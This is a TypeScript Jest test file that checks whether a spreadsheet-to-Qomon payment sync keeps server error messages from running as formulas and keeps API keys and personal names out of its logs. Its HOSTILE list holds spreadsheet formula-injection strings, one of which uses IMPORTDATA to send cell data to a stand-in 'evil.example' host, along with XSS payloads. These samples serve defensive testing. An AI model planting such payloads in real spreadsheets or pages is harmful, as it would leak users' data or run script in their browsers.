import { describe, expect, test } from '@jest/globals';
import { putRows } from '../support/rows';
import { someOf } from './campaign';
import { BUNDLES, payments, Scene } from './scene';

const KEY = 'sample-key-full';
const PEOPLE = /Camille|Moreau|camille\.moreau|Louis|Bernard|louis\.bernard/i;

/** Every formula anywhere in the spreadsheet. */
function formulas({ session }: Scene): string[] {
  const { workbook } = session.google;
  return workbook
    .sheets()
    .flatMap(({ name }) => workbook.formulas(name).flat())
    .filter((formula) => formula !== '');
}

/** The journal, and all that was logged. */
function records(scene: Scene, logs: readonly { readonly text: string }[]): string {
  const { workbook } = scene.session.google;
  return JSON.stringify([workbook.values('Journal'), logs.map(({ text }) => text)]);
}

const HOSTILE = [
  '=1+1',
  '=IMPORTDATA("https://evil.example/"&A2)',
  '+1',
  '-1',
  '@SUM(A1:A9)',
  "'quoted",
  '\t=1+1',
  '\n=1+1',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  `your key ${KEY} is wrong`,
  `Bearer ${KEY}`,
  'Camille Moreau (camille.moreau@example.org) is blocked',
];

describe.each(someOf(HOSTILE, 0.8))('R27: a server that says %j', (text) => {
  test.each([400, 413, 422] as const)('in a refusal (%i) is quoted as text', (status) => {
    for (const flaws of [
      [],
      [{ location: 'body.data.transactions[0].amount', message: text, value: 1 }],
    ]) {
      const scene = new Scene(payments(2));
      const fault = { kind: 'status', status, detail: text, flaws } as const;
      scene.session.qomon.faults.add({ fault, ...BUNDLES });
      const run = scene.send();
      expect(scene.session.column('State')).toEqual(['Rejected', 'Sent']);
      expect(formulas(scene)).toEqual([]);
      expect(scene.message()).toMatch(/^Qomon refused this/);
      expect(scene.message()).toContain(text.split(KEY).join('…').trim().slice(0, 8));
      expect(scene.session.everything()).not.toContain(KEY);
      expect(records(scene, run.logs)).not.toMatch(PEOPLE);
      expect(records(scene, run.logs)).not.toContain(KEY);
      expect(scene.session.dialogs.map(({ prompt }) => prompt).join()).not.toContain(KEY);
    }
  });

  test('in a conflict (409) that is looked up first is quoted as text', () => {
    const scene = new Scene(payments(2));
    const fault = { kind: 'status', status: 409, detail: text, flaws: [] } as const;
    scene.session.qomon.faults.add({ fault, ...BUNDLES });
    const run = scene.send();
    expect(scene.session.column('State')).toEqual(['To check', 'Sent']);
    expect(formulas(scene)).toEqual([]);
    expect(scene.message()).toContain(text.split(KEY).join('…').trim().slice(0, 8));
    expect(scene.session.everything()).not.toContain(KEY);
    expect(records(scene, run.logs)).not.toMatch(PEOPLE);
    expect(records(scene, run.logs)).not.toContain(KEY);
  });

  test('in a 403 beside an answer that was accepted is quoted as text', () => {
    const scene = new Scene(payments(2));
    scene.session.qomon.faults.add({
      fault: { kind: 'body', status: 403, recorded: false, type: 'text/html', text },
      ...BUNDLES,
    });
    const run = scene.send();
    expect(scene.session.column('State')).toEqual(['Rejected', 'Sent']);
    expect(formulas(scene)).toEqual([]);
    expect(scene.session.everything()).not.toContain(KEY);
    expect(records(scene, run.logs)).not.toMatch(PEOPLE);
    expect(records(scene, run.logs)).not.toContain(KEY);
  });

  test.each([200, 401, 500, 503] as const)(
    'in any other answer (%i) is shown nowhere',
    (status) => {
      const scene = new Scene(payments(2));
      scene.session.qomon.faults.add({
        fault: { kind: 'body', status, recorded: false, type: 'text/html', text },
        ...BUNDLES,
      });
      const run = scene.send();
      expect(formulas(scene)).toEqual([]);
      expect(scene.message()).not.toContain(text);
      expect(scene.session.everything()).not.toContain(KEY);
      expect(records(scene, run.logs)).not.toMatch(PEOPLE);
    },
  );
});

test('R27: what Qomon holds under a reference is told without being run as a formula', () => {
  const scene = new Scene(payments(1));
  scene.session.qomon.faults.add({
    fault: {
      kind: 'body',
      recorded: false,
      type: 'application/json',
      text: JSON.stringify({
        data: { id: 77, transactions: [{ id: 1, amount: 1, currency: '=1+1', date: '=NOW()' }] },
      }),
    },
    ...BUNDLES,
  });
  scene.send();
  expect(scene.state()).toBe('To check');
  expect(formulas(scene)).toEqual([]);
  scene.settle();
  expect(scene.broken()).toEqual([]);
});

test('R27: no name, address or key is in the journal or the log, whatever went wrong', () => {
  const people = payments(6).map((row, index) => ({
    ...row,
    'Payer ID': index % 2 === 0 ? '123456' : '789012',
    'Payer email': index % 2 === 0 ? 'camille.moreau@example.org' : 'louis.bernard@example.com',
    Comment: `For Camille Moreau ${index}`,
  }));
  const scene = new Scene([]);
  putRows(scene.session, people);
  const faults = ['422', '500', 'truncated', '409', 'timeout after recording'] as const;
  const logs: { readonly text: string }[] = [];
  for (const fault of faults) {
    scene.session.qomon.faults.add({ fault, ...BUNDLES });
    logs.push(...scene.send().logs);
    scene.session.google.clock.advance(180_000);
  }
  expect(scene.session.google.workbook.records('Journal').length).toBeGreaterThan(6);
  expect(records(scene, logs)).not.toMatch(PEOPLE);
  expect(records(scene, logs)).not.toContain(KEY);
});
